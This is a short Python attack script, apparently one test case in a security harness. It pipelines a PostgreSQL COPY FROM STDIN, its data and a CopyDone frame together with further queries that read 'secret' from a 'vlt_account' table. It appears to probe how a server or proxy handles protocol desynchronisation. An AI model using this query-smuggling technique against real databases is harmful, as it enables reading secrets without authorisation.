"""Sends a COPY, its data and the next Queries at once."""

from attacks.frames import ask, message, query
from attacks.talking import Server
from raw_client import copy_data

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        copy = query(b"COPY mallory_own FROM STDIN") + copy_data(b"77\tx\n") + message(b"c", b"")
        return ask(
            client,
            copy,
            query(b"SELECT secret FROM vlt_account"),
            query(b"SELECT account_unseen(1)"),
            rounds=3,
        )
